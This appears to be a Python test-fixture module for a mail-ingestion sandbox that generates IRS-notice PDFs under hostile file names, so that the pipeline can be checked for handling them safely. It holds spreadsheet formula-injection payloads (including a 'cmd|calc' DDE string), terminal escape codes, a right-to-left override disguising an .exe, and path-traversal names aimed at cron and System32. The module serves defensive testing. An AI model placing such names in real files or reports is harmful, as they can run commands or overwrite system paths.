"""Hostile input: what anyone who can drop a file into a Drive folder can send mailroom (``include_hostile_files``).

- Names built to attack whoever reads the report: spreadsheet formulas (``=cmd|...``, ``+``, ``-``, ``@``, and a
  leading tab or CR before ``=``), control characters (a bell, a terminal escape), a right-to-left override that
  makes ``fdp.exe`` read as ``exe.pdf``, and paths (``../``, ``..\\``). Their contents are ordinary notices: they
  must be filed as usual, under mailroom's own document name, and show up harmless in the report.
- Unreadable contents under such names: zero bytes, a truncated PDF, an encrypted PDF, a photo saved as ``.pdf``, and
  a file of more bytes than any notice has (read by its size, never downloaded).
- The same file uploaded twice (identical bytes, later upload) and the same letter scanned twice (different bytes,
  same letter type, notice date, SSN last 4 and AUR number): one letter, so one document and one follow-up task.
"""

from __future__ import annotations

import random

from mailroom_sandbox.corpus.models import BadFileReason

# Ordinary notices under hostile names; {last} is the taxpayer's last name in capitals.
HOSTILE_NOTICE_NAMES: tuple[str, ...] = (
    "=cmd|' /C calc'!A0 {last}.pdf",
    "+{last} CP2000.pdf",
    "-{last} CP2000.pdf",
    "@SUM(1+1)*cmd|' /C calc'!A0 {last}.pdf",
    "\t=HYPERLINK(\"http://example.invalid/\"&A1) {last}.pdf",
    "\r=1+1 {last}.pdf",
    "CP2000 {last}\x07\x1b[2J\x00.pdf",
    "CP2000 {last} \u202efdp.exe",
    "../../../etc/cron.d/{last}.pdf",
    "..\\..\\Windows\\System32\\{last}.pdf",
)
# Unreadable files under hostile names (the 300-page one is in the ordinary bad files already).
HOSTILE_BAD_NAMES: tuple[tuple[BadFileReason, str], ...] = (
    (BadFileReason.EMPTY, "@empty {seq:04d}.pdf"),
    (BadFileReason.CORRUPT, "-truncated {last}.pdf"),
    (BadFileReason.ENCRYPTED, "=locked {last}.pdf"),
    (BadFileReason.NOT_PDF, "\tIMG_{seq:04d}.pdf"),
    (BadFileReason.TOO_LARGE, "+huge {last}\x1b.pdf"),
)
RESCAN_NAME = "CP2000 {last} rescan.pdf"
# One byte over mailroom's default ExtractionLimits.max_bytes (20 MiB): refused by its size before any download.
OVERSIZE_BYTES = 20 * 1024 * 1024 + 1


def oversize(rng: random.Random) -> bytes:
    """A "PDF" too big to be a notice: a PDF header, then noise (a phone video renamed, a whole archive)."""
    header = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    return header + rng.randbytes(OVERSIZE_BYTES - len(header))
